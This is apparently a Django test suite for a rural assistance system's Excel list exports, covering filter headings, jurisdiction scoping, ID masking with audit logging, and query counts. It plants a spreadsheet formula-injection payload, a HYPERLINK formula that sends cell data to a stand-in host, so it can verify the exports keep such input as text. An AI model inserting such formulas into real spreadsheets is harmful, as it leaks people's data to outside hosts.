"""Every list page exports to .xlsx through one mechanism (bangfu.web.exports): each file names its filters in a
row above the columns, with the export time and the exporter; it holds only the rows the exporter sees through
that filter; ID numbers are masked text unless the exporter may reveal them (and that export is logged); nothing
typed becomes a formula; and the queries do not grow with the rows."""

import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from bangfu.audit.models import RevealRecord
from bangfu.cases.services import case_open
from bangfu.ingest.models import ImportRun
from bangfu.jobs.models import Job
from bangfu.monitoring.models import FeedUpload, Lead, MonitoringLine, RiskWarning, Rule, ScreeningRun
from bangfu.monitoring.services import lead_self_report
from bangfu.regions.models import Region
from bangfu.web.exports import LIST_EXPORTS, list_export_get, list_export_write
from tests.conftest import (
    COUNTY,
    SHUANGHE,
    TUANJIE,
    ZHANGZHA_TOWN,
    ZHANGZHA_VILLAGE,
    make_user,
    synthetic_id,
)

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'


def _export(client, key: str, data: dict, capture) -> list[list]:
    """POST the list page's export form; the rows of the file (through its job when it is one)."""
    with capture(execute=True):
        response = client.post(reverse("web:list_export", args=[key]), data)
    if response.status_code == 200:
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        content = response.content
    else:
        assert response.status_code == 302, response.status_code
        job = Job.objects.latest("pk")
        assert job.status == Job.Status.DONE, job.message
        assert response["Location"] == reverse("jobs:job_detail", args=[job.pk])
        assert Path(job.result_path).stat().st_mode & 0o777 == 0o600
        content = Path(job.result_path).read_bytes()
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [[cell.value for cell in row] for row in book.active.iter_rows()], book.active


def _check_heading(rows, title: str, filters: str, username: str) -> None:
    assert rows[0][0] == title
    assert rows[1][0] == f"筛选条件：{filters}"
    assert rows[2][0].startswith(f"导出时间：{timezone.localtime():%Y-%m-%d}") and f"（{username}，" in rows[2][0]


@pytest.fixture
def world(make_household, county_admin):
    """Two households in 团结村 and one in 漳扎村, each with an open warning, a lead and a case."""
    tuanjie = [make_household(TUANJIE, head_name=name) for name in ("团结甲", "团结乙")]
    zhangzha = make_household(ZHANGZHA_VILLAGE, head_name="漳扎丙")
    rule = Rule.objects.get(code="medical_stay_oop")
    other_rule = Rule.objects.filter(is_exclusion=False).exclude(pk=rule.pk).first()
    now = timezone.now()
    for household, evidence in ((tuanjie[0], FORMULA), (tuanjie[1], "住院自付 12,000 元"), (zhangzha, "住院自付")):
        RiskWarning.objects.create(household=household, village_id=household.village_id, rule=rule,
                                   evidence=evidence, created_at=now, updated_at=now)
    RiskWarning.objects.create(household=tuanjie[1], village_id=TUANJIE, rule=other_rule, evidence="另一规则",
                               created_at=now, updated_at=now)
    numbers = {}
    for village, name in ((TUANJIE, "申报甲"), (ZHANGZHA_VILLAGE, "申报乙")):
        numbers[name] = synthetic_id()
        lead_self_report(name=name, phone="13800001234", id_number=numbers[name], village_code=village,
                         difficulty="=1+1 看病花费大", risk_type="medical", client=name)
    for household in (*tuanjie, zhangzha):
        case_open(actor=county_admin, household=household, summary="因病")
    return {"tuanjie": tuanjie, "zhangzha": zhangzha, "rule": rule, "numbers": numbers}


def test_warnings_carry_their_filters_and_only_the_exporters_village(client, tuanjie_cadre, world,
                                                                     django_capture_on_commit_callbacks):
    client.force_login(tuanjie_cadre)
    page = client.get(reverse("monitoring:warning_list"), {"rule": world["rule"].code}).content.decode()
    assert reverse("web:list_export", args=["warnings"]) in page and "导出 Excel" in page
    assert f'name="rule" value="{world["rule"].code}"' in page  # the button carries the filter on screen
    rows, _sheet = _export(client, "warnings", {"rule": world["rule"].code}, django_capture_on_commit_callbacks)
    _check_heading(rows, "预警清单", f"规则={world['rule'].name}；状态=待核实", "tuanjie_cadre")
    assert rows[3][:2] == ["户编号", "户主"]
    assert sorted(r[1] for r in rows[4:]) == ["团结乙", "团结甲"]  # not 漳扎, not the other rule's warning


def test_a_formula_typed_into_a_list_stays_text(client, tuanjie_cadre, world, django_capture_on_commit_callbacks):
    client.force_login(tuanjie_cadre)
    rows, sheet = _export(client, "warnings", {}, django_capture_on_commit_callbacks)
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert [c.value for c in cells] == [FORMULA]
    assert all(c.data_type == "s" for c in cells)  # a string cell, never a formula
    rows, sheet = _export(client, "leads", {}, django_capture_on_commit_callbacks)
    assert {c.data_type for row in sheet.iter_rows() for c in row if str(c.value).startswith("=")} == {"s"}


def test_lead_id_numbers_are_masked_text_unless_the_exporter_may_reveal(client, tuanjie_cadre, shuanghe_reviewer,
                                                                        world, django_capture_on_commit_callbacks):
    number = world["numbers"]["申报甲"]
    client.force_login(tuanjie_cadre)
    page = client.get(reverse("monitoring:lead_list")).content.decode()
    assert 'name="full"' not in page  # a village cadre may not export full numbers: no box to tick
    assert client.post(reverse("web:list_export", args=["leads"]), {"full": "on"}).status_code == 403
    rows, sheet = _export(client, "leads", {}, django_capture_on_commit_callbacks)
    _check_heading(rows, "识别线索", "全部", "tuanjie_cadre")
    assert "证件号码和电话：脱敏" in rows[2][0]
    heads = rows[3]
    assert [r[heads.index("申报人")] for r in rows[4:]] == ["申报甲"]  # 漳扎's lead is not in a 团结 file
    masked = rows[4][heads.index("证件号码")]
    assert masked != number and masked[:6] == number[:6] and "*" in masked
    assert rows[4][heads.index("联系电话")] != "13800001234"
    assert RevealRecord.objects.filter(actor=tuanjie_cadre, field="export_masked").count() == 1
    client.force_login(shuanghe_reviewer)
    assert 'name="full"' in client.get(reverse("monitoring:lead_list")).content.decode()
    rows, sheet = _export(client, "leads", {"full": "on"}, django_capture_on_commit_callbacks)
    assert "证件号码和电话：完整（已记录）" in rows[2][0]
    cell = sheet.cell(row=5, column=heads.index("证件号码") + 1)
    assert cell.value == number and cell.data_type == "s"  # the full number, as text
    assert rows[4][heads.index("联系电话")] == "13800001234"
    assert RevealRecord.objects.filter(actor=shuanghe_reviewer, field="export_full").count() == 1


def test_cases_carry_their_filters_and_scope(client, tuanjie_cadre, world, django_capture_on_commit_callbacks):
    client.force_login(tuanjie_cadre)
    assert reverse("web:list_export", args=["cases"]) in client.get(reverse("cases:case_list")).content.decode()
    rows, _sheet = _export(client, "cases", {"kind": "identification"}, django_capture_on_commit_callbacks)
    _check_heading(rows, "识别与帮扶案件", "环节=未办结；类型=识别纳入", "tuanjie_cadre")
    assert sorted(r[1] for r in rows[4:]) == ["团结乙", "团结甲"]


def test_the_audit_log_exports_each_tab_with_its_filters(client, county_admin, world,
                                                         django_capture_on_commit_callbacks):
    client.force_login(county_admin)
    page = client.get(reverse("web:audit_log"), {"object_type": "household"}).content.decode()
    assert reverse("web:list_export", args=["audit-changes"]) in page
    rows, _sheet = _export(client, "audit-changes", {"object_type": "household", "action": "create"},
                           django_capture_on_commit_callbacks)
    _check_heading(rows, "数据变更记录", "操作=新增；对象=农户", "county_admin")
    assert len(rows[4:]) == 3 and {r[2] for r in rows[4:]} == {"新增"}
    rows, _sheet = _export(client, "audit-reveals", {"view": "reveals"}, django_capture_on_commit_callbacks)
    assert rows[0][0] == "敏感信息查看与导出记录" and rows[3][:3] == ["时间", "查看人", "内容"]


def test_users_export_at_once_with_their_filters(client, county_admin, tuanjie_cadre, zhangzha_cadre,
                                                 django_capture_on_commit_callbacks):
    client.force_login(county_admin)
    rows, _sheet = _export(client, "users", {"role": "village_cadre"}, django_capture_on_commit_callbacks)
    _check_heading(rows, "用户清单", "角色=村干部/驻村工作队", "county_admin")
    assert sorted(r[0] for r in rows[4:]) == ["tuanjie_cadre", "zhangzha_cadre"]
    assert not Job.objects.exists()  # a small list of no personal data: no background job


def test_jobs_are_only_the_exporters_own(client, tuanjie_cadre, zhangzha_cadre, world,
                                         django_capture_on_commit_callbacks):
    client.force_login(zhangzha_cadre)
    _export(client, "warnings", {}, django_capture_on_commit_callbacks)
    client.force_login(tuanjie_cadre)
    rows, _sheet = _export(client, "jobs", {}, django_capture_on_commit_callbacks)
    assert rows[4:] == []


def test_who_may_not_export_gets_nothing(client, regions, world, django_capture_on_commit_callbacks):
    from tests.conftest import make_user

    client.force_login(make_user("contact", "assistance_contact", TUANJIE))
    assert "导出 Excel" not in client.get(reverse("monitoring:warning_list")).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("web:list_export", args=["warnings"]), {})
    assert response.status_code == 403 and not Job.objects.exists()
    assert client.post(reverse("web:list_export", args=["nothing"]), {}).status_code == 404


def test_every_list_export_is_tested_here():
    list_export_get("warnings")  # discovers them all
    tested = {"warnings", "leads", "cases", "audit-changes", "audit-reveals", "audit-security", "users", "jobs",
              "monitored", "rules", "monitoring-lines", "screening-runs", "feed-uploads", "imports"}
    # tests/assistance/test_exports_and_config.py: the assistance ledgers, cadres and findings
    assistance = {key for key in LIST_EXPORTS if key.startswith("ledger-")} | {"cadres", "findings", "tasks"}
    # tests/relocation/test_pages.py and tests/care/test_pages.py: relocation sites and households, care groups
    care = {"relocation-sites", "relocation-households", "care-members"}
    # tests/reports/test_report_statistics.py: the statistics tables (three sheets of figures)
    reports = {"statistics"}
    assert set(LIST_EXPORTS) - assistance - care - reports <= tested


@pytest.mark.parametrize("key", ["warnings", "leads", "cases", "audit-changes"])
def test_queries_do_not_grow_with_the_rows(key, county_admin, world, make_household):
    export = list_export_get(key)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            list_export_write(io.BytesIO(), export, actor=county_admin, data={}, full=True)
        return len(captured.captured_queries)

    few = queries()
    rule = world["rule"]
    for i in range(6):
        household = make_household(TUANJIE, head_name=f"新户{'一二三四五六'[i]}")
        RiskWarning.objects.create(household=household, village_id=TUANJIE, rule=rule, evidence="x",
                                   created_at=timezone.now(), updated_at=timezone.now())
        lead_self_report(name=f"新申报{i}", phone="13800001234", id_number=synthetic_id(), village_code=TUANJIE,
                         difficulty="生活困难", risk_type="medical", client=f"c{i}")
        case_open(actor=county_admin, household=household, summary="因病")
    assert Lead.objects.count() >= 8
    assert queries() == few


def test_an_id_number_typed_into_a_filter_is_not_stored_in_clear(client, county_admin, world,
                                                                 django_capture_on_commit_callbacks):
    number = synthetic_id()
    client.force_login(county_admin)
    rows, _sheet = _export(client, "monitored", {"q": number}, django_capture_on_commit_callbacks)
    job = Job.objects.get()
    assert number not in str(job.params) and number not in job.title
    assert "cipher" in job.params["data"]["q"]
    assert number not in rows[1][0]
    assert re.search("＊1[78]位数字＊", rows[1][0])  # the filter row says a number was searched (an X not counted)


def _column(rows, title: str) -> list:
    return [row[rows[3].index(title)] for row in rows[4:]]


def test_the_rules_export_with_their_thresholds(client, tuanjie_cadre, regions, django_capture_on_commit_callbacks):
    client.force_login(tuanjie_cadre)
    assert reverse("web:list_export", args=["rules"]) in client.get(reverse("monitoring:rule_list")).content.decode()
    rows, _sheet = _export(client, "rules", {}, django_capture_on_commit_callbacks)
    _check_heading(rows, "预警规则", "全部", "tuanjie_cadre")
    assert _column(rows, "规则代码") == list(Rule.objects.values_list("code", flat=True))  # the page's order
    rule = Rule.objects.get(code="medical_stay_oop")
    line = rows[4 + _column(rows, "规则代码").index(rule.code)]
    # Under the edit form's labels, as people read them (monitoring.rules.rule_params_text).
    assert line[rows[3].index("参数")] == "监测对象单次自付预警线（元）：6,000；一般农户单次自付预警线（元）：10,000"
    assert line[rows[3].index("核实时限（天）")] == rule.verify_days
    assert line[rows[3].index("启用")] == ("是" if rule.enabled else "否")
    exclusion = Rule.objects.filter(is_exclusion=True).first()
    assert rows[4 + _column(rows, "规则代码").index(exclusion.code)][rows[3].index("核实时限（天）")] == ""
    assert not Job.objects.exists()  # no personal data, a small list: at once


def test_monitoring_lines_export_what_is_in_force_where_the_exporter_sits(client, tuanjie_cadre, regions,
                                                                          django_capture_on_commit_callbacks):
    from decimal import Decimal

    wenchuan = Region.objects.create(code="513221000000", name="汶川县", level=Region.Level.COUNTY,
                                     parent_id="513200000000")
    MonitoringLine.objects.create(region_id="510000000000", year=2026, amount=Decimal("7800"), source="省文件")
    MonitoringLine.objects.create(region_id="513200000000", year=2026, amount=Decimal("7950"), source="州文件")
    MonitoringLine.objects.create(region_id=COUNTY, year=2025, amount=Decimal("8100"), source="县文件")
    MonitoringLine.objects.create(region=wenchuan, year=2025, amount=Decimal("9000"), source="汶川文件")
    client.force_login(tuanjie_cadre)
    assert reverse("web:list_export", args=["monitoring-lines"]) in client.get(reverse("monitoring:lines")).content.decode()
    rows, _sheet = _export(client, "monitoring-lines", {}, django_capture_on_commit_callbacks)
    _check_heading(rows, "监测范围", "全部", "tuanjie_cadre")
    assert rows[3] == ["年度", "执行数值（元）", "来源", "省定（元）", "州（市）定（元）", "本县设定（元）", "依据文件"]
    assert rows[4:] == [[2026, 7950, "州（市）定", 7800, 7950, "", "州文件"],
                        [2025, 8100, "县设定", "", "", 8100, "县文件"]]  # not 汶川县's line
    client.force_login(make_user("wenchuan_admin", "county_admin", wenchuan.code))
    rows, _sheet = _export(client, "monitoring-lines", {}, django_capture_on_commit_callbacks)
    assert [row[:3] for row in rows[4:]] == [[2026, 7950, "州（市）定"], [2025, 9000, "县设定"]]
    client.force_login(make_user("nowhere", "department_operator"))  # the page needs a region, so does the file
    assert client.post(reverse("web:list_export", args=["monitoring-lines"]), {}).status_code == 403


def _screening_run(rule: Rule, started_by=None) -> ScreeningRun:
    return ScreeningRun.objects.create(
        started_by=started_by, status=ScreeningRun.Status.DONE, seconds=1.5, created=3, updated=1,
        inputs={"households": 40, "members": 120, "feed": 7}, counts_by_rule={rule.code: 3},
        counts_by_township={SHUANGHE: 2, ZHANGZHA_TOWN: 1},
        counts_by_village={TUANJIE: {rule.code: 2}, ZHANGZHA_VILLAGE: {rule.code: 1}},
        changes_by_village={TUANJIE: [2, 1], ZHANGZHA_VILLAGE: [1, 0]})


def test_screening_runs_count_townships_only_within_the_readers_jurisdiction(
        client, county_admin, shuanghe_reviewer, tuanjie_cadre, leader, django_capture_on_commit_callbacks):
    rule = Rule.objects.get(code="medical_stay_oop")
    _screening_run(rule, started_by=county_admin)
    shuanghe, zhangzha = (Region.objects.get(code=code).name for code in (SHUANGHE, ZHANGZHA_TOWN))
    client.force_login(shuanghe_reviewer)
    assert reverse("web:list_export", args=["screening-runs"]) in client.get(
        reverse("monitoring:screening_list")).content.decode()
    rows, _sheet = _export(client, "screening-runs", {}, django_capture_on_commit_callbacks)
    _check_heading(rows, "筛查记录", "全部", "shuanghe_reviewer")
    # by rule, as by township: the reader's own villages only (the county's 3 is the county's)
    assert _column(rows, "按规则命中") == [f"{rule.name} 2"] and _column(rows, "发起人") == ["county_admin"]
    # new warnings and updated evidence too (the county's 3 and 1 are the county's)
    assert (_column(rows, "读取农户"), _column(rows, "新预警"), _column(rows, "更新证据")) == ([40], [2], [1])
    assert _column(rows, "按乡镇命中") == [f"{shuanghe} 2"]  # not 漳扎镇's count
    client.force_login(tuanjie_cadre)  # a village sees no township's count, as on the page
    rows, _sheet = _export(client, "screening-runs", {}, django_capture_on_commit_callbacks)
    assert _column(rows, "按乡镇命中") == [""] and _column(rows, "按规则命中") == [f"{rule.name} 2"]
    client.force_login(county_admin)
    rows, _sheet = _export(client, "screening-runs", {}, django_capture_on_commit_callbacks)
    assert _column(rows, "按乡镇命中") == [f"{shuanghe} 2；{zhangzha} 1"]
    assert _column(rows, "按规则命中") == [f"{rule.name} 3"]
    assert (_column(rows, "新预警"), _column(rows, "更新证据")) == ([3], [1])
    client.force_login(leader)  # the page is for who screens or verifies: so is the file
    assert client.get(reverse("monitoring:screening_list")).status_code == 403
    assert client.post(reverse("web:list_export", args=["screening-runs"]), {}).status_code == 403

    def queries() -> int:
        actor = type(shuanghe_reviewer).objects.get(pk=shuanghe_reviewer.pk)  # as a job loads it: region unread
        with CaptureQueriesContext(connection) as captured:
            list_export_write(io.BytesIO(), list_export_get("screening-runs"), actor=actor, data={}, full=False)
        return len(captured.captured_queries)

    few = queries()
    for _i in range(5):
        _screening_run(rule)
    assert queries() == few


def test_feed_uploads_export_the_whole_history_to_who_may_upload(client, tuanjie_cadre, regions,
                                                                 django_capture_on_commit_callbacks):
    operator = make_user("yibao", "department_operator", COUNTY)
    FeedUpload.objects.bulk_create(FeedUpload(kind="medical", period=f"2024-{1 + i % 12:02d}", file_name=f"医保{i}.xlsx",
                                              uploaded_by=operator, rows=10, matched=8, unmatched=1, invalid=1)
                                   for i in range(31))
    FeedUpload.objects.create(kind="payroll", period="2024-12", file_name="财政.xlsx", rows=1, matched=1)
    client.force_login(operator)
    assert reverse("web:list_export", args=["feed-uploads"]) in client.get(
        reverse("monitoring:feed_upload")).content.decode()
    rows, _sheet = _export(client, "feed-uploads", {}, django_capture_on_commit_callbacks)
    _check_heading(rows, "部门数据上传记录", "全部", "yibao")
    assert len(rows[4:]) == 31  # every 医保 upload, not only the 30 the page lists; not the 财政 one
    assert rows[4][1:] == ["yibao", "医保住院结算", "2024-07", "医保30.xlsx", 10, 8, 1, 1, 0]  # newest first
    client.force_login(tuanjie_cadre)
    assert client.post(reverse("web:list_export", args=["feed-uploads"]), {}).status_code == 403


def test_imports_are_only_the_importers_own(client, tuanjie_cadre, zhangzha_cadre, leader,
                                            django_capture_on_commit_callbacks):
    report = {"counts": {"households_new": 3, "households_changed": 1, "households_rejected": 1, "members_new": 9,
                         "rows_with_errors": 2}, "year": 2025,
              "committed": {"households_created": 3, "households_updated": 1, "members_created": 9}}
    ImportRun.objects.create(kind="households", file_name="团结村台账.xlsx", file_path="/nonexistent/a.xlsx",
                             requested_by=tuanjie_cadre, status=ImportRun.Status.COMMITTED, report=report)
    ImportRun.objects.create(kind="households", file_name="漳扎村台账.xlsx", file_path="/nonexistent/b.xlsx",
                             requested_by=zhangzha_cadre)
    client.force_login(tuanjie_cadre)
    assert reverse("web:list_export", args=["imports"]) in client.get(reverse("ingest:import_start")).content.decode()
    rows, _sheet = _export(client, "imports", {}, django_capture_on_commit_callbacks)
    _check_heading(rows, "我的导入", "全部", "tuanjie_cadre")
    assert _column(rows, "文件名") == ["团结村台账.xlsx"]  # not 漳扎's file
    assert rows[4][2:] == ["已导入", 2025, 3, 1, 1, 9, 2, 3, 1, 9]
    client.force_login(leader)
    assert client.post(reverse("web:list_export", args=["imports"]), {}).status_code == 403
